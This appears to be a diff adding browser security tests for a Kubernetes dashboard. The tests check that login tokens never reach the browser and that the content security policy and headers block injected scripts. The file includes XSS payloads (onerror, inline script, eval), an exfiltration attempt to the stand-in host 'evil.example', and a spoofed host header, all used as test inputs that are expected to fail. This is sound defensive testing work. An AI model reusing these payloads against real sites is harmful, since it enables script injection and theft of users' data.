@@ -1,0 +1,161 @@
+/** What a page is made of, and what a script in it could get hold of. */
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { openRecords, type Records } from "../harness/aged.ts";
+import { people, type Scene, startScene, team } from "../harness/dashboard.ts";
+import { sessionCookieName, visitor } from "../harness/visitor.ts";
+
+let scene: Scene;
+let records: Records;
+beforeAll(async () => {
+  scene = await startScene();
+  records = await openRecords(scene);
+});
+afterAll(async () => {
+  await records?.close();
+  await scene?.stop();
+});
+
+const list = `/api/kubernetes/apis/modoki.tsuzu.dev/v1alpha1/namespaces/${team}/applications`;
+
+test("no token ever reaches a browser, from the login to the logout", async () => {
+  const context = await (await scene.browser()).newContext();
+  const seen: string[] = [];
+  const reading: Promise<void>[] = [];
+  context.on("response", (response) => {
+    if (!response.url().startsWith(scene.url)) return;
+    reading.push(
+      (async () => {
+        const headers = await response.headersArray();
+        seen.push(response.url(), ...headers.map(({ name, value }) => `${name}: ${value}`));
+        // A stream has no end to be waited for, and where it leads a redirection says in its headers.
+        const isWhole = !headers.some(({ value }) => value.startsWith("text/event-stream"));
+        if (isWhole && response.status() < 300) seen.push(await response.text());
+      })().catch(() => undefined),
+    );
+  });
+  try {
+    const page = await context.newPage();
+    await page.goto(scene.url);
+    await page.getByRole("link", { name: "Log in" }).click();
+    await page.getByLabel("Name").fill(people.alice.name);
+    await page.getByLabel("Password").fill(people.alice.password);
+    await page.getByRole("button", { name: "Log in" }).click();
+    await page.getByRole("button", { name: "Log out" }).waitFor();
+    const cookie = (await context.cookies()).find(({ name }) => name === sessionCookieName)?.value;
+    const first = (await records.of(cookie)).session;
+    await records.age(cookie);
+    expect(await page.evaluate(async (path) => (await fetch(path)).status, list)).toBe(200);
+    const second = (await records.of(cookie)).session;
+    const kept = await page.evaluate(
+      `JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }])`,
+    );
+    seen.push(String(kept));
+    await page.getByRole("button", { name: "Log out" }).click();
+    await page.getByRole("button", { name: "Yes, sign me out" }).click();
+    await page.getByRole("link", { name: "Log in" }).waitFor();
+    expect(page.url()).toBe(`${scene.url}/`);
+    await Promise.all(reading);
+    const secrets = [first, second].flatMap(({ idToken, refreshToken = "" }) => [
+      idToken,
+      // Its claims alone, and its signature.
+      ...idToken.split(".").slice(1),
+      refreshToken,
+    ]);
+    expect(secrets.filter((secret) => secret.length < 20)).toEqual([]);
+    expect(seen.length).toBeGreaterThan(50);
+    expect(seen.join("\n")).toContain(first.csrf);
+    expect(secrets.filter((secret) => seen.some((text) => text.includes(secret)))).toEqual([]);
+    expect(String(kept)).toMatch(/^\["",/);
+  } finally {
+    await context.close();
+  }
+});
+
+test("no script runs that is not a file of the page", async () => {
+  const page = await scene.loggedIn(people.alice);
+  const outcome = await page.evaluate(`(async () => {
+    const violated = [];
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violated.push(effectiveDirective));
+    const attempt = (run) => { try { run(); return "ran"; } catch (error) { return error.name; } };
+    const tries = [
+      attempt(() => { document.body.innerHTML = "<img src=x onerror='window.ran = 1'>"; }),
+      attempt(() => { document.createElement("script").text = "window.ran = 2"; }),
+      attempt(() => { new DOMParser().parseFromString("<script>window.ran = 4</script>", "text/html"); }),
+    ];
+    const image = document.createElement("img");
+    image.setAttribute("src", "https://evil.example/?stolen");
+    document.body.append(image);
+    await fetch("https://evil.example/").catch(() => undefined);
+    // Whoever looks with a debugger may do more, but not in a turn of its own.
+    await new Promise((resolve) => setTimeout(() => {
+      tries.push(attempt(() => { eval("window.ran = 3"); }));
+      resolve();
+    }));
+    return { tries, violated: [...new Set(violated)].sort(), ran: window.ran ?? 0 };
+  })()`);
+  expect(outcome).toEqual({
+    tries: ["TypeError", "TypeError", "TypeError", "EvalError"],
+    violated: expect.arrayContaining(["connect-src", "img-src", "require-trusted-types-for"]),
+    ran: 0,
+  });
+});
+
+test("a script in the text of a page is refused", async () => {
+  const context = await (await scene.browser()).newContext();
+  try {
+    const page = await context.newPage();
+    // As if somebody had got markup into what the server sends.
+    await page.route(`${scene.url}/`, async (route) => {
+      const answer = await route.fetch();
+      const body = `${await answer.text()}<script>window.ran = 1</script><b onclick="window.ran = 2">click</b>`;
+      await route.fulfill({ response: answer, body });
+    });
+    const refusals: string[] = [];
+    page.on("console", (message) => refusals.push(message.text()));
+    await page.goto(scene.url);
+    await page.getByText("click").click();
+    await expect.poll(() => refusals.filter((text) => text.includes("script-src")).length).toBe(2);
+    expect(await page.evaluate("window.ran ?? 0")).toBe(0);
+  } finally {
+    await context.close();
+  }
+});
+
+test("every answer says what a browser is to refuse, and only scripts are answered in JSON", async () => {
+  const who = await scene.visitor(people.bob);
+  const nobody = visitor(scene.url);
+  const html = (await nobody.ask("/")).text;
+  const asset = /\/assets\/[^"]+\.js/.exec(html)?.[0] ?? "";
+  const page = "text/html";
+  const text = "text/plain";
+  const json = "application/json";
+  const answers = [
+    [200, page, await nobody.ask("/")],
+    [200, "text/javascript", await nobody.ask(asset)],
+    [404, text, await nobody.ask("/assets/none.js")],
+    [303, undefined, await nobody.ask("/auth/login")],
+    [303, undefined, await nobody.ask("/auth/callback")],
+    [200, page, await nobody.ask("/login-failed?why=denied")],
+    [421, text, await nobody.ask("/", { headers: { host: "evil.example" } })],
+    [404, text, await nobody.ask("/applications", { method: "POST", headers: { "x-denrei-csrf": "" } })],
+    [401, json, await nobody.ask("/api/session")],
+    [200, json, await who.ask("/api/session")],
+    [200, json, await who.ask(list)],
+    [403, json, await who.ask("/api/kubernetes/api/v1/secrets")],
+    [403, json, await who.ask("/api/session", { method: "DELETE", headers: { origin: "null" } })],
+    [404, json, await who.ask("/api/none")],
+  ] as const;
+  for (const [status, type, { status: found, headers }] of answers) {
+    expect([found, headers["content-type"]?.split(";")[0]]).toEqual([status, type]);
+    expect(headers).toMatchObject({
+      "content-security-policy": expect.stringMatching(
+        /^default-src 'none'; script-src 'self'; style-src 'self';/,
+      ),
+      "x-content-type-options": "nosniff",
+      "referrer-policy": "no-referrer",
+      "cross-origin-opener-policy": "same-origin",
+      "cross-origin-resource-policy": "same-origin",
+    });
+    expect(headers["cache-control"]).toMatch(type === "text/javascript" ? /immutable/ : /no-store/);
+  }
+});
